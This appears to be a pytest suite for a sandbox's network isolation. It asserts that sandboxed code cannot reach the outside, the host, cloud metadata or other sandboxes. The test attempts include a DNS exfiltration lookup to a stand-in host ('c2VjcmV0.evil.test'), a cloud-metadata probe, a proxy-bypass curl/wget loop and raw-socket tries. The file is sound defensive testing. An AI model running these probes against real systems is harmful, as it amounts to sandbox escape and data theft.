"""A sandbox has no way out but the proxy's ear; all else must fail at once, for want of a route, not of an answer."""

import socket

import psutil
import pytest

from sandbox.contract import ExecRequest, SandboxProvider
from tests.support.sandboxes import SMALL, Box, python

_ATTEMPTS = {
    "tcp": "s = socket.socket(); s.settimeout(3); s.connect(('192.0.2.1', 80))",
    "udp": "socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 53))",
    "ipv6": "s = socket.socket(socket.AF_INET6); s.settimeout(3); s.connect(('2001:db8::1', 80))",
    "dns": "socket.getaddrinfo(b'c2VjcmV0.evil.test', 80)",
    "dns-datagram": "socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('169.254.169.253', 53))",
    "metadata": "s = socket.socket(); s.settimeout(3); s.connect(('169.254.169.254', 80))",
    "bridge": "s = socket.socket(); s.settimeout(3); s.connect(('172.17.0.1', 22))",
    "multicast": "socket.socket(type=socket.SOCK_DGRAM).sendto(b'x', ('224.0.0.1', 5353))",
    "broadcast": (
        "s = socket.socket(type=socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1); "
        "s.sendto(b'x', ('255.255.255.255', 67))"
    ),
    "packet": "socket.socket(17, socket.SOCK_RAW)",
    "raw": "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
    "vsock": "s = socket.socket(40, socket.SOCK_STREAM); s.settimeout(3); s.connect((2, 1024))",
    "crypto": "socket.socket(38, socket.SOCK_SEQPACKET)",
    "bluetooth": "socket.socket(31, socket.SOCK_RAW)",
}


@pytest.mark.parametrize("kind", _ATTEMPTS)
async def test_every_way_out_fails(box: Box, kind: str) -> None:
    code = f"import socket\ntry:\n    {_ATTEMPTS[kind]}\nexcept OSError as error:\n    print('refused', error.errno)"
    (await box.provider.ear(box.sandbox_id)).close()
    result = await box.python(code)
    assert result.stdout.startswith("refused"), result
    assert result.stdout.split()[1] != "None", "a timeout is not a refusal: something let the packet go"


async def test_going_round_the_proxy_leads_nowhere(box: Box) -> None:
    ear = await box.provider.ear(box.sandbox_id)
    with ear:
        result = await box.run(
            "unset HTTPS_PROXY HTTP_PROXY https_proxy http_proxy ALL_PROXY; export NO_PROXY='*' no_proxy='*';"
            " for get in 'curl -sS --noproxy *' wget 'busybox wget' 'git ls-remote'; do"
            " command -v ${get%% *} >/dev/null || continue; $get http://192.0.2.1/ && echo reached; echo tried; done",
            env={"HTTPS_PROXY": "http://127.0.0.1:3128", "HTTP_PROXY": "http://127.0.0.1:3128"},
        )
        ear.setblocking(False)
        with pytest.raises(BlockingIOError):
            ear.accept()
    assert set(result.stdout.split()) == {"tried"}, result


async def test_a_service_on_every_address_of_the_host_is_reached_on_none(box: Box) -> None:
    found = [each for cards in psutil.net_if_addrs().values() for each in cards]
    addresses = [each.address for each in found if each.family == socket.AF_INET]
    assert "127.0.0.1" in addresses
    with socket.create_server(("0.0.0.0", 0)) as server:
        server.setblocking(False)
        result = await box.python(
            "import socket\n"
            f"for address in {addresses!r}:\n"
            "    s = socket.socket(); s.settimeout(3)\n"
            f"    print(s.connect_ex((address, {server.getsockname()[1]})))"
        )
        with pytest.raises(BlockingIOError):
            server.accept()
    answers = [int(line) for line in result.stdout.split()]
    assert len(answers) == len(addresses)
    assert 0 not in answers


async def test_a_service_of_the_host_is_not_on_the_sandboxs_loopback(box: Box) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        result = await box.python(f"import socket\nsocket.socket().connect(('127.0.0.1', {port}))")
    assert "ConnectionRefusedError" in result.stderr


async def test_an_abstract_socket_of_the_host_is_not_in_the_sandbox(box: Box) -> None:
    with socket.socket(socket.AF_UNIX) as server:
        server.bind("\0bulkhead-attack-test")
        server.listen()
        result = await box.python("import socket\nsocket.socket(socket.AF_UNIX).connect('\\0bulkhead-attack-test')")
    assert "ConnectionRefusedError" in result.stderr


async def test_one_sandbox_does_not_hear_another(provider: SandboxProvider) -> None:
    for name in ("sbx_server", "sbx_client"):
        await provider.provision(name, SMALL)
    server = python(
        "import os, socket, time\n"
        "s = socket.create_server(('0.0.0.0', 8080))\n"
        "u = socket.socket(socket.AF_UNIX); u.bind('\\0neighbour'); u.listen()\n"
        "open('/workspace/up', 'w').close()\n"
        "time.sleep(600)"
    )
    await provider.execute(
        "sbx_server", ExecRequest(exec_id="serve", command=f"({server}) & until test -e up; do :; done")
    )
    for target in ("(socket.AF_INET, ('127.0.0.1', 8080))", "(socket.AF_UNIX, '\\0neighbour')"):
        client = python(f"import socket\nfamily, address = {target}\nsocket.socket(family).connect(address)")
        own = await provider.execute("sbx_server", ExecRequest(exec_id=f"own{target}", command=client))
        other = await provider.execute("sbx_client", ExecRequest(exec_id=f"other{target}", command=client))
        assert own.exit_code == 0, own
        assert "ConnectionRefusedError" in other.stderr


async def test_no_interface_can_be_added(box: Box) -> None:
    code = (
        "import socket, struct\n"
        "s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)\n"
        "s.bind((0, 0))\n"
        "link = struct.pack('BxHiII', 0, 0, 0, 0, 0) + struct.pack('HH', 10, 3) + b'dummy0\\0\\0'\n"
        "s.send(struct.pack('IHHII', 16 + len(link), 16, 0x605, 1, 0) + link)\n"
        "print(struct.unpack_from('i', s.recv(4096), 16)[0])"
    )
    assert int((await box.python(code)).stdout) == -1
